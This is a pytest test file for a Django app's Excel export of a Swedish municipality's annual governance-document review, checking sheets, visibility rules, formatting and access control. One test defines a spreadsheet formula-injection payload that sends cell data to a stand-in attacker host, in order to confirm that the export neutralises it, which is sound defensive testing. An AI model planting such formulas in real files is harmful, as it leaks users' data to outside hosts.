"""Årlig genomgång as an Excel workbook (issue 22, item 4): one sheet per section, read back with
openpyxl as the samordnare would open it in Excel.

The register is test_annual_report's build_register_2025 (known answers on 2025-12-15): the
admin sees 11 documents, the samordnare 10 (one riktlinje is restricted to a group she is not
in), so the workbook follows the same audience rules as the page and the PDF.
"""

import datetime
import io

import openpyxl
import pytest
import time_machine
from django.contrib.auth import get_user_model
from django.db import connection
from django.test import override_settings
from django.test.utils import CaptureQueriesContext

from policies.models import RiktlinjePage
from reports.annual_report import build_report
from reports.exports import (
    SHEET_TITLE_FORBIDDEN,
    SHEET_TITLE_MAX,
    XLSX_CONTENT_TYPE,
    report_workbook,
    sheet_title,
)
from tests.factories import make_live_document, make_user
from tests.governance.workflow_helpers import client_for, is_refused, last_message, soup
from tests.reports.test_annual_report import END, NOW, START, build_register_2025
from tests.shared import build_once

pytestmark = pytest.mark.django_db

REPORT = "/admin/rapporter/arlig-genomgang/"
XLSX = "/admin/rapporter/arlig-genomgang/xlsx/"
PERIOD = {"fran": "2025-01-01", "till": "2025-12-31"}
SHEETS = [
    "Sammanfattning",
    "Dokument per typ och status",
    "Granskningsläge per förvaltning",
    "Beslut under perioden",
    "Genomförda revisioner",
    "Ska revideras",
    "Försenade",
    "Saknar ansvarig",
    "Krävda riktlinjer",
    "LIS-områden",
    "Klarspråk (svår text)",
    "Kvittens",
    "Revisorernas frågor",
]
FORMULA = '=HYPERLINK("http://angripare.example/?d="&A1;"Klicka")'


@pytest.fixture(autouse=True)
def frozen():
    with time_machine.travel(NOW, tick=False):
        yield


@pytest.fixture(scope="module")
def register_once(django_db_setup, django_db_blocker, tmp_path_factory):
    folder = tmp_path_factory.mktemp("exports")
    with override_settings(STYRDOK_ARCHIVE_ROOT=folder / "arkiv"):
        yield from build_once(django_db_blocker, build_register_2025)


def person(register_once, username):
    return get_user_model().objects.get(pk=register_once["people"][username])


def workbook_of(response):
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    return openpyxl.load_workbook(io.BytesIO(response.content))


def rows_of(sheet):
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def download(user, period=PERIOD):
    return client_for(user).get(XLSX, period)


def summary(book):
    return {row[0]: row[1] for row in rows_of(book["Sammanfattning"])[1:]}


def test_one_sheet_per_section_with_swedish_names(register_once):
    response = download(person(register_once, "admin"))
    assert response["Content-Disposition"] == (
        'attachment; filename="arlig-genomgang-2025-01-01--2025-12-31.xlsx"'
    )
    assert "no-store" in response["Cache-Control"]
    book = workbook_of(response)
    assert book.sheetnames == SHEETS
    for name in book.sheetnames:
        assert len(name) <= SHEET_TITLE_MAX
        assert not SHEET_TITLE_FORBIDDEN.search(name)


def test_the_summary_holds_the_headline_as_numbers_and_the_period_as_dates(register_once):
    values = summary(workbook_of(download(person(register_once, "admin"))))
    assert values["Rapport"] == "Årlig genomgång av styrdokument och informationssäkerhetsarbetet"
    assert values["Kommun"] == "Exempelkommun"
    assert values["Period från och med"] == datetime.datetime(2025, 1, 1)
    assert values["Period till och med"] == datetime.datetime(2025, 12, 31)
    assert values["Status per"] == datetime.datetime(2025, 12, 15)
    assert values["Skapad"] == datetime.datetime(2025, 12, 15, 10, 0)
    assert values["Urval"] == "Alla dokument i registret"
    assert values["Styrdokument i registret"] == 11
    assert values["Varav fastställda och aktuella"] == 9
    assert values["Andel aktuella (%)"] == 82
    assert values["Försenade revisioner"] == 2
    assert values["Dokument utan dokumentansvarig"] == 2
    assert values["Beslut under perioden"] == 8


def test_a_reader_who_sees_fewer_documents_gets_fewer_rows(register_once):
    admin = workbook_of(download(person(register_once, "admin")))
    samordnare = workbook_of(download(person(register_once, "samordnare")))

    values = summary(samordnare)
    assert values["Styrdokument i registret"] == 10
    assert values["Beslut under perioden"] == 7
    assert values["Urval"].startswith("De dokument du får läsa")
    assert len(rows_of(samordnare["Beslut under perioden"])) == 1 + 7
    assert len(rows_of(admin["Beslut under perioden"])) == 1 + 8
    titles = {row[1] for row in rows_of(admin["Beslut under perioden"])[1:]}
    hidden = titles - {row[1] for row in rows_of(samordnare["Beslut under perioden"])[1:]}
    assert hidden  # the restricted riktlinje's decision is only in the admin's workbook
    for sheet in samordnare.worksheets:
        cells = {str(cell) for row in rows_of(sheet) for cell in row if cell is not None}
        assert not cells & hidden, sheet.title


def test_the_sections_read_as_the_report(register_once):
    admin = person(register_once, "admin")
    book = workbook_of(download(admin))
    report = build_report(START, END, user=admin)

    types = rows_of(book["Dokument per typ och status"])
    assert types[0] == ["Dokumenttyp", *(s.label for s in report.statuses), "Totalt"]
    assert types[-1][0] == "Totalt" and types[-1][-1] == 11
    riktlinje = next(row for row in types if row[0] == "Riktlinje")
    assert riktlinje[-1] == 6

    decisions = rows_of(book["Beslut under perioden"])
    assert decisions[0] == [
        "Datum",
        "Dokument",
        "Dokumenttyp",
        "Beslutande organ",
        "Händelse",
        "Beslut",
        "§",
        "Dnr",
    ]
    policy = next(row for row in decisions if row[1] == "Informationssäkerhetspolicy")
    assert isinstance(policy[0], datetime.datetime)  # a real Excel date
    assert policy[0].year == 2025

    overdue = rows_of(book["Försenade"])
    assert overdue[0][0] == "Revideras senast"
    assert len(overdue) == 1 + 2
    assert all(isinstance(row[0], datetime.datetime) for row in overdue[1:])

    lis = rows_of(book["LIS-områden"])
    assert [row[0] for row in lis[1:]] == list(range(1, 11))
    assert {row[4] for row in lis[1:]} <= {"Har aktuella dokument", "Saknar aktuella dokument"}
    missing = [row[0] for row in lis[1:] if row[4] == "Saknar aktuella dokument"]
    assert missing == [area.number for area in report.lis_missing]

    required = rows_of(book["Krävda riktlinjer"])
    assert required[0][:2] == ["Policy", "Krävt dokument"]
    assert {row[5] for row in required[1:]} <= {"Ja", "Nej"}
    assert len(required) - 1 == sum(len(policy.rows) for policy in report.required)

    audit = rows_of(book["Revisorernas frågor"])
    assert audit[0] == ["Nr", "Fråga", "Underlag eller saknas", "Slag", "Uppgift"]
    assert {row[0] for row in audit[1:]} == set(range(1, 9))
    assert {row[2] for row in audit[1:]} <= {"Underlag", "Saknas", "Regel", ""}
    rules = {row[0]: row[4] for row in audit[1:] if row[2] == "Regel"}
    assert rules == {question.number: question.rule for question in report.audit_questions}
    for question in report.audit_questions:
        evidence = [row for row in audit[1:] if row[0] == question.number and row[2] == "Underlag"]
        shown = min(len(question.evidence), 12)
        assert [row[4] for row in evidence[:shown]] == [i.text for i in question.evidence[:12]]
        if len(question.evidence) > 12:
            assert evidence[-1][4] == (
                f"… och {len(question.evidence) - 12} till, se flikarna före denna"
            )


def test_the_header_row_is_bold_and_frozen_and_columns_have_widths(register_once):
    book = workbook_of(download(person(register_once, "admin")))
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2", sheet.title
        assert all(cell.font.bold for cell in sheet[1]), sheet.title
        assert sheet.column_dimensions["A"].width >= 8, sheet.title
    decisions = book["Beslut under perioden"]
    assert decisions.column_dimensions["B"].width > decisions.column_dimensions["G"].width
    assert decisions["A2"].number_format == "yyyy-mm-dd"


@pytest.mark.usefixtures("text_stored_before_the_input_guard")
def test_a_title_that_looks_like_a_formula_stays_text(register_once):
    make_live_document(RiktlinjePage, title=FORMULA, next_review=datetime.date(2025, 1, 10))
    make_live_document(RiktlinjePage, title="Riktlinje\x07 med styrtecken")
    book = workbook_of(download(person(register_once, "admin")))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    formula = [cell for cell in cells if cell.value == FORMULA]
    assert formula, "the title is missing"
    assert all(cell.data_type == "s" for cell in formula)
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert "Riktlinje med styrtecken" in {cell.value for cell in cells}


def test_the_report_page_offers_the_workbook_beside_the_pdf(register_once):
    page = soup(client_for(person(register_once, "samordnare")).get(REPORT, PERIOD))
    link = page.select_one("#pdf a[href^='/admin/rapporter/arlig-genomgang/xlsx/']")
    assert link is not None
    assert link.get_text(strip=True) == "Ladda ned som Excel (XLSX)"
    assert "fran=2025-01-01" in link["href"] and "till=2025-12-31" in link["href"]


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"fran": "2025-13-01", "till": "2025-12-31"}, "Ange ett giltigt datum"),
        ({"fran": "2025-06-30", "till": "2025-01-01"}, "Från och med måste vara samma dag"),
        ({"fran": "x" * 3000}, "Ange ett datum."),
    ],
)
def test_a_bad_period_is_a_swedish_message(register_once, params, message):
    response = download(person(register_once, "samordnare"), params)
    assert response.status_code == 302
    assert response["Location"].startswith(REPORT)
    text = last_message(response)
    assert text.startswith("Excel-filen kunde inte skapas: perioden är inte giltig.")
    assert message in text


@pytest.mark.parametrize(
    ("username", "allowed"),
    [("samordnare", True), ("sekreterare", True), ("admin", True), ("agare", False)],
)
def test_the_same_people_as_for_the_pdf(register_once, username, allowed):
    response = download(person(register_once, username))
    if allowed:
        assert response.status_code == 200
    else:
        assert is_refused(response)


def test_anonymous_and_plain_staff_are_sent_to_the_login(db):
    assert download(None)["Location"].startswith("/admin/login/")
    staff = make_user("vanlig-medarbetare")
    response = client_for(staff).get(XLSX, PERIOD)
    assert response.status_code == 302
    assert response["Location"].startswith("/admin/login/")


def test_the_workbook_is_built_with_a_constant_number_of_queries(register_once):
    admin = person(register_once, "admin")
    client = client_for(admin)

    def count():
        with CaptureQueriesContext(connection) as queries:
            assert client.get(XLSX, PERIOD).status_code == 200
        return len(queries)

    before = count()
    for n in range(15):
        make_live_document(RiktlinjePage, title=f"Extra riktlinje {n}")
    assert count() == before


def test_sheet_titles_are_made_safe():
    assert sheet_title("Beslut: KS/KF [2025]?*") == "Beslut- KS-KF -2025---"
    assert len(sheet_title("x" * 40)) == 31
    assert sheet_title("") == "Blad"


def test_an_empty_register_gives_every_sheet_its_headings(db):
    report = build_report(START, END, user=None)
    book = openpyxl.load_workbook(io.BytesIO(report_workbook(report)))
    assert book.sheetnames == SHEETS
    for sheet in book.worksheets:
        assert sheet.max_row >= 1 and sheet["A1"].value, sheet.title


def test_a_question_names_its_first_twelve_items_and_how_many_more(db):
    from reports.annual_report import EvidenceItem
    from reports.exports import audit_sheet

    report = build_report(START, END, user=None)
    question = report.audit_questions[0]
    question.evidence = [EvidenceItem("Dokument", f"Riktlinje {n}") for n in range(15)]
    question.missing = [f"Saknas {n}" for n in range(13)]
    rows = [row for row in audit_sheet(report).rows if row[0] == question.number]
    assert [row[4] for row in rows if row[2] == "Underlag"] == [
        *(f"Riktlinje {n}" for n in range(12)),
        "… och 3 till, se flikarna före denna",
    ]
    assert [row[4] for row in rows if row[2] == "Saknas"][-1] == (
        "… och 1 till, se flikarna före denna"
    )
    assert [row[4] for row in rows if row[2] == "Regel"] == [question.rule]
